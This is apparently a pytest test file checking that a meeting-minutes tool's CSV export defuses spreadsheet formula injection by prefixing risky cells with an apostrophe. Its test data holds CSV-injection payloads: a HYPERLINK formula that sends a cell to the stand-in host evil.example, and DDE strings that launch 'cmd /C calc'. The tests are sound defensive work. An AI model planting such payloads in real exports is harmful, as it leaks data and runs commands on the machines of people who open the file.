"""Spreadsheet formulas in `samtui report --format csv` (CSV injection): a note typed as
`todo: =HYPERLINK(...)` must not become a live formula in the spreadsheet or CRM that
opens the file. By default a cell that starts with = + - @ or a tab gets a leading
apostrophe (OWASP's advice); `--raw` gives the text exactly. Read back with the csv module.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from samtui import cli
from samtui.core.minutes import ActionRecord, AttendeeRecord, MeetingRecord, Minutes

# What each formula start looks like in the wild, as typed in a note or written in a file.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&B3,"Details")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}
NEUTRALISED = {
    "=": '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")',
    "+": "'+cmd|' /C calc'!A0",
    "-": "'-2+3+cmd|' /C calc'!A0",
    "@": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "'\t=1+1",
}
COLUMNS = ["text", "owner_id", "owner_name", "item", "carried_from"]
"""The columns that carry text from a person (or a hand-edited file)."""


def minutes_with(payload: str, tmp_path: Path) -> Path:
    """One action whose every text column starts with `payload` (each told apart by a tail
    word), owned by an attendee whose id and name do too."""
    record = MeetingRecord(
        title="Acme", account="Acme", agenda="a.toml", planned_minutes=30, actual_seconds=60
    )
    minutes = Minutes(
        meeting=record,
        attendees=[AttendeeRecord(id=payload + " id", name=payload + " name")],
        actions=[
            ActionRecord(
                id=1,
                text=payload + " text",
                owner=payload + " id",
                item=payload + " item",
                carried_from=payload + " file#1",
            )
        ],
    )
    return minutes.write(tmp_path / "m.toml")


def rows_of(argv: list[str], capsys: pytest.CaptureFixture[bytes]) -> list[list[str]]:
    assert cli.main(argv) == 0
    out, err = capsys.readouterr()
    assert err == b""
    return list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_formulas_are_neutralised_in_every_text_column(
    start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    header, row = rows_of(["report", str(path), "--format", "csv"], capsysbinary)
    cells = dict(zip(header, row, strict=True))
    expected = NEUTRALISED[start]
    assert {column: cells[column] for column in COLUMNS} == {
        "text": expected + " text",
        "owner_id": expected + " id",
        "owner_name": expected + " name",
        "item": expected + " item",
        "carried_from": expected + " file#1",
    }
    assert (cells["id"], cells["due"], cells["status"]) == ("1", "", "open")


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_raw_gives_the_exact_text(
    start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    header, row = rows_of(["report", str(path), "--format", "csv", "--raw"], capsysbinary)
    cells = dict(zip(header, row, strict=True))
    payload = PAYLOADS[start]
    assert {column: cells[column] for column in COLUMNS} == {
        "text": payload + " text",
        "owner_id": payload + " id",
        "owner_name": payload + " name",
        "item": payload + " item",
        "carried_from": payload + " file#1",
    }


def test_the_issues_note_from_the_note_line_to_the_csv(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """The whole way: typed as a note, exported as minutes, reported as CSV."""
    from samtui.core.clock import FakeClock
    from samtui.core.session import Session

    agenda = tmp_path / "a.toml"
    agenda.write_text(
        '[meeting]\ntitle = "t"\naccount = "a"\nduration = 30\n'
        '[roles]\nmoderator = "ann"\ntimekeeper = "ann"\nscribe = "ann"\n'
        '[[attendees]]\nid = "ann"\nname = "Ann"\n[[items]]\ntitle = "i"\nminutes = 30\n',
        encoding="utf-8",
    )
    session = Session.start(agenda, clock=FakeClock())
    try:
        session.meeting.add_note('todo: =HYPERLINK("http://evil.example/?leak="&B3,"Details") @ann')
        path = session.finish(tmp_path / "m.toml")
    finally:
        session.close()
    _, row = rows_of(["report", str(path), "--format", "csv"], capsysbinary)
    assert row[1] == '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")'


def test_out_neutralises_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = minutes_with("=1+1", tmp_path)
    target = tmp_path / "actions.csv"
    assert cli.main(["report", str(path), "--format", "csv", "--out", str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1][1] == "'=1+1 text"


def test_raw_only_goes_with_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = minutes_with("=1+1", tmp_path)
    assert cli.main(["report", str(path), "--raw"]) == 2
    assert capsys.readouterr() == ("", "--raw: only goes with --format csv\n")
